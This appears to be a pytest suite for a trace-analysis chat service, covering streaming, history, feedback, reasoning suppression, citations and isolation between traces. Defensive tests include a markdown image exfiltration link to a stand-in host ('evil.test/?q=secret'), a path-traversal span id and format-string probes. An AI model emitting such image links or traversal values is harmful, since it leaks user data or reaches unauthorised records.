"""Whole turns over real sockets: question in, frames out, history kept."""

import json
import re
from typing import Any

import pytest

from standin.chat import text
from testkit.scripted_chat import answer, calling
from testkit.service import TRACE_ID, Service, running, span_id
from tests.web.markdown_judge import dangers

NASTY = "a data: b\r\nc\u2028d \U0001f600 naïve data:data: \\u003a {x} %s"


@pytest.fixture
async def service(database_uri: str) -> Any:
    async with running(database_uri) as service:
        yield service


def details(number: int, **more: bool) -> tuple[str, str]:
    return "get_span_details", json.dumps({"span_id": span_id(number), **more})


async def test_a_question_is_answered_with_tools_and_kept(service: Service) -> None:
    service.chat.scripts = [
        calling(details(3), ("get_trace_data", "{}"), status="Let me look."),
        answer("The tool ", "**lookup_order** failed."),
    ]
    reader = await service.ask()
    assert reader.texts == ["Let me look.", "The tool **lookup_order** failed."]
    assert [(row.name, row.display_name, row.completed) for row in reader.rows] == [
        ("get_span_details", "Fetching span details for lookup_order", True),
        ("get_trace_data", "Reading the trace", True),
    ]
    history = await service.history()
    assert [(each["role"], each["content"]) for each in history] == [
        ("user", "What caused this error?"),
        ("assistant", "Let me look."),
        ("assistant", "Fetching span details for lookup_order\n\nReading the trace"),
        ("assistant", "The tool **lookup_order** failed."),
    ]
    assert history[2]["messageType"] == "tool_call"
    assert history[2]["toolCalls"][0] == {
        "id": reader.rows[0].id,
        "name": "get_span_details",
        "display_name": "Fetching span details for lookup_order",
        "span_id": span_id(3),
        "span_ids": [span_id(3)],
        "completed": True,
    }
    assert len({each["id"] for each in history}) == 4


async def test_the_model_reads_the_outline_and_the_tool_results_fenced_as_data(
    service: Service,
) -> None:
    service.chat.scripts = [calling(details(3, include_input=True)), answer("Done.")]
    await service.ask()
    first, second = (request["messages"] for request in service.chat.requests)
    assert [each["role"] for each in first] == ["system", "user", "user"]
    assert "lookup_order" not in first[0]["content"]
    assert "lookup_order" in first[1]["content"]
    assert first[2]["content"] == "What caused this error?"
    assert second[:3] == first
    result = second[4]["content"]
    token = first[1]["content"].split("<<<data ")[1].split("\n")[0]
    assert result.startswith(f"<<<data {token}\n")
    assert result.endswith(f"\ndata {token}>>>")
    assert "KeyError" in result
    assert '{"order_id": 8812}' in result


async def test_the_providers_ids_stay_on_the_wire_and_ours_reach_the_panel(
    service: Service,
) -> None:
    service.chat.scripts = [calling(details(3)), answer("Done.")]
    reader = await service.ask()
    sent = service.chat.requests[1]["messages"]
    provider_id = sent[3]["tool_calls"][0]["id"]
    assert provider_id == sent[4]["tool_call_id"]
    assert provider_id.startswith("call_0_")
    assert reader.rows[0].id != provider_id


async def test_a_second_question_knows_the_first_and_its_calls_in_one_line(
    service: Service,
) -> None:
    service.chat.scripts = [calling(details(3)), answer("The tool."), answer("Yes.")]
    await service.ask("Why?")
    await service.ask("Sure?")
    messages = service.chat.requests[-1]["messages"]
    assert messages[:3] == service.chat.requests[0]["messages"][:3]
    assert [each["role"] for each in messages[2:]] == [
        "user",
        "assistant",
        "tool",
        "assistant",
        "user",
    ]
    assert messages[4]["content"].startswith("[get_span_details: ok, ")
    assert messages[-1]["content"] == "Sure?"


async def test_any_model_text_passes_unchanged_into_panel_and_history(service: Service) -> None:
    service.chat.scripts = [answer(*NASTY)]
    reader = await service.ask("data: \u2028 😀\r\n{name}")
    assert reader.texts == [NASTY]
    assert await service.read_messages() == [
        ("user", "data: \u2028 😀\r\n{name}"),
        ("assistant", NASTY),
    ]


async def test_text_in_one_piece_comes_in_small_partial_frames(service: Service) -> None:
    long = "word 😀 " * 2_000
    service.chat.scripts = [answer(long)]
    reader = await service.ask()
    *partial, closing = [
        frame for frame in reader.frames if frame.get("message_type") == "response"
    ]
    assert len(partial) > 10
    assert all(len(json.dumps(frame)) <= 1_024 for frame in partial)
    assert closing["partial"] is False
    assert reader.texts == [long]


async def test_without_streaming_the_frames_are_whole(service: Service) -> None:
    service.chat.scripts = [calling(details(3), status="Let me look."), answer("It was ", "it.")]
    reader = await service.ask(streaming=False)
    assert reader.texts == ["Let me look.", "It was it."]
    assert not any(frame.get("partial") for frame in reader.frames)


async def test_a_turn_has_one_invocation_id_over_all_its_bubbles(service: Service) -> None:
    service.chat.scripts = [calling(details(3), status="Let me look."), answer("It.")]
    first, second = await service.ask(), await service.ask()
    ids = [{f["invocationId"] for f in r.frames if "invocationId" in f} for r in (first, second)]
    assert [len(each) for each in ids] == [1, 1]
    assert ids[0] != ids[1]


async def test_the_stream_has_the_headers_of_an_event_stream(service: Service) -> None:
    async with service.asking() as stream:
        response = stream.response
        assert response.headers["content-type"].startswith("text/event-stream")
        assert response.headers["cache-control"] == "no-cache"
        assert response.headers["x-accel-buffering"] == "no"
        await response.aread()


async def test_arguments_and_results_never_reach_the_browser(service: Service) -> None:
    service.chat.scripts = [calling(details(3, include_input=True)), answer("Done.")]
    async with service.asking() as stream:
        body = await stream.response.aread()
    assert b"order_id" not in body
    assert b"KeyError" not in body


async def test_a_span_of_another_trace_is_not_shown_to_the_model(service: Service) -> None:
    foreign = "0199dead-0000-7000-8000-00000000beef"
    service.standin.records.put_spans(
        [
            {
                "id": foreign,
                "trace_id": "0199dead-0000-7000-8000-00000000dead",
                "project_name": "shop",
                "name": "foreign-secret",
                "type": "general",
                "start_time": "2026-11-20T10:00:00Z",
            }
        ]
    )
    call = ("get_span_details", json.dumps({"span_id": foreign}))
    path = ("get_span_details", json.dumps({"span_id": "../traces/x?y#z"}))
    service.chat.scripts = [calling(call, path), answer("Done.")]
    await service.ask()
    assert "foreign-secret" not in json.dumps(service.chat.requests)
    assert all(
        "x?y" not in each.path and "/x" not in each.path for each in service.switches.received
    )


async def test_curly_braces_in_a_span_are_only_text(service: Service) -> None:
    service.standin.records.put_spans(
        [
            {
                "id": span_id(9),
                "trace_id": TRACE_ID,
                "project_name": "shop",
                "name": "{name} {0.__class__} {{x}} %(y)s $z",
                "type": "general",
                "start_time": "2026-11-20T10:00:03Z",
            }
        ]
    )
    reader = await service.ask()
    assert reader.error is None
    outline = service.chat.requests[0]["messages"][1]["content"]
    assert "{name} {0.__class__} {{x}} %(y)s $z" in outline


async def test_feedback_is_kept_changed_and_taken_back(service: Service) -> None:
    url = f"{service.session()}/feedback"
    assert (await service.http.put(url, json={"value": 1})).status_code == 404
    await service.ask()
    for value in (1, 0, 0):
        response = await service.http.put(url, json={"value": value})
        assert (response.status_code, response.json()) == (200, {"status": "ok"})
    for _ in range(2):
        response = await service.http.delete(url)
        assert (response.status_code, response.content) == (204, b"")


@pytest.mark.parametrize("value", [2, -1])
async def test_feedback_that_is_no_thumb_is_refused(service: Service, value: int) -> None:
    await service.ask()
    response = await service.http.put(f"{service.session()}/feedback", json={"value": value})
    assert response.status_code == 422
    assert response.json()["message"]


async def test_deleting_clears_the_chat_also_when_there_is_none(service: Service) -> None:
    await service.ask()
    for _ in range(2):
        response = await service.http.delete(service.session())
        assert (response.status_code, response.json()) == (200, None)
    assert (await service.http.get(service.session())).status_code == 404


async def test_a_conversation_can_be_deleted_after_its_trace_is_gone(service: Service) -> None:
    await service.ask()
    service.standin.records.workspace().traces.clear()
    assert (await service.http.delete(service.session())).status_code == 200


async def test_a_trace_of_1200_spans_is_read_whole(service: Service) -> None:
    service.standin.records.put_spans(
        {
            "id": span_id(100 + number),
            "trace_id": TRACE_ID,
            "parent_span_id": span_id(1),
            "project_name": "shop",
            "name": f"step {number}",
            "type": "general",
            "start_time": "2026-11-20T10:00:01Z",
            "end_time": "2026-11-20T10:00:02Z",
        }
        for number in range(1_200)
    )
    await service.ask()
    outline = service.chat.requests[0]["messages"][1]["content"]
    assert "1,204 spans" in outline
    assert "could be read" not in outline


async def test_spans_that_the_backend_withholds_are_reported_to_the_model(service: Service) -> None:
    service.switches.extra_span_count = 7
    await service.ask()
    outline = service.chat.requests[0]["messages"][1]["content"]
    assert "only 4 of the trace's 11 spans could be read" in outline


async def test_reasoning_is_never_shown(service: Service) -> None:
    thought = {"choices": [{"index": 0, "delta": {"reasoning_content": "hidden thought"}}]}
    service.chat.scripts = [[thought, text("Open answer."), *answer()]]
    reader = await service.ask()
    assert reader.texts == ["Open answer."]
    assert "hidden" not in json.dumps(reader.frames)


async def test_an_answer_comes_with_three_follow_up_questions(service: Service) -> None:
    reader = await service.ask()
    (frame,) = [each for each in reader.frames if each.get("message_type") == "suggestions"]
    assert len(frame["suggestions"]) == 3
    assert reader.texts == ["It was the tool."]


async def test_a_trace_has_three_first_questions(service: Service) -> None:
    response = await service.http.get(f"{service.session()}/suggestions")
    assert response.status_code == 200
    questions = response.json()["suggestions"]
    assert len(questions) == 3
    assert any("error" in each.lower() or "fail" in each.lower() for each in questions)
    assert service.chat.requests == []
    assert (await service.http.get(service.session())).status_code == 404


async def test_a_citation_reaches_panel_and_history_as_a_link_to_its_span(
    database_uri: str,
) -> None:
    async with running(database_uri, opik_ui_url="https://opik.test") as service:
        service.chat.scripts = [answer("It was [", "s1", "] and [s99] not [s2].")]
        reader = await service.ask()
        assert service.chat.requests[0]["messages"][1]["content"].count("s1 ") > 0
        (shown,) = reader.texts
        assert shown.count("](https://opik.test/default/projects/") == 2
        assert "s99" not in shown
        assert (await service.read_messages())[-1] == ("assistant", shown)
        service.chat.scripts = [answer("Yes.")]
        await service.ask("Sure?")
        earlier = [each["content"] for each in service.chat.requests[-1]["messages"]]
        assert any("It was [s1] and" in str(each) for each in earlier)


async def test_images_and_foreign_links_of_a_model_never_leave_the_service_alive(
    service: Service,
) -> None:
    hostile = "![x](https://evil.test/?q=secret) <img src=//evil.test> [a](https://evil.test)"
    service.chat.scripts = [answer(*hostile)]
    reader = await service.ask()
    shown = [*reader.texts, (await service.read_messages())[-1][1]]
    assert all("![" not in each and "<img" not in each for each in shown)
    assert all("](https://evil" not in each for each in shown)


@pytest.mark.parametrize(
    "pieces",
    [
        ("<thi", "nk>Which one?</th", "ink>The tool failed."),
        ("Which one? ", "\n</think>\n", "\nThe tool failed."),
        (
            "<|channel|>analysis<|message|>Which one?<|end|>",
            "<|channel|>final<|message|>The tool failed.",
        ),
    ],
)
async def test_reasoning_is_neither_shown_nor_stored_nor_sent_back(
    pieces: tuple[str, ...], service: Service
) -> None:
    service.chat.scripts = [answer(*pieces), answer("Yes.")]
    assert (await service.ask()).texts == ["The tool failed."]
    assert (await service.history())[1]["content"] == "The tool failed."
    await service.ask("Sure?")
    assert "Which one?" not in json.dumps(service.chat.requests[1]["messages"])


async def test_a_call_that_is_written_as_text_runs(service: Service) -> None:
    written = json.dumps({"name": "get_trace_data", "arguments": {"view": "findings"}})
    service.chat.scripts = [answer(written[:20], written[20:]), answer("The tool failed.")]
    reader = await service.ask()
    assert reader.texts == ["The tool failed."]
    assert [(row.name, row.completed) for row in reader.rows] == [("get_trace_data", True)]
    result = service.chat.requests[1]["messages"][-1]
    assert (result["role"], "KeyError" in result["content"]) == ("tool", True)


async def test_rows_tell_spans_of_one_name_apart(service: Service) -> None:
    renamed = {"id": span_id(4), "trace_id": TRACE_ID, "project_name": "shop", "name": "plan"}
    service.standin.records.put_spans([renamed])
    both = ("compare", json.dumps({"a": span_id(2), "b": span_id(4)}))
    service.chat.scripts = [calling(both, details(2)), answer("Done.")]
    first, second = (await service.ask()).rows
    compared = re.fullmatch(r"Comparing (plan \(s\d+\)) with (plan \(s\d+\))", first.display_name)
    assert compared is not None
    assert compared[1] != compared[2]
    assert second.display_name == f"Fetching span details for {compared[1]}"
    rows = (await service.history())[1]["toolCalls"]
    assert rows[0]["span_ids"] == [span_id(2), span_id(4)]


async def test_a_question_in_the_history_loads_nothing_and_hides_nothing(service: Service) -> None:
    await service.ask("Why?\n\n![x](https://evil.test/p.png) <img src=//evil.test>\n##> more")
    shown = (await service.history())[0]["content"]
    assert dangers(shown, allowed=frozenset(["https://evil.test/p.png"])) == []
    assert "##>" not in shown
    assert "evil.test/p.png" in shown
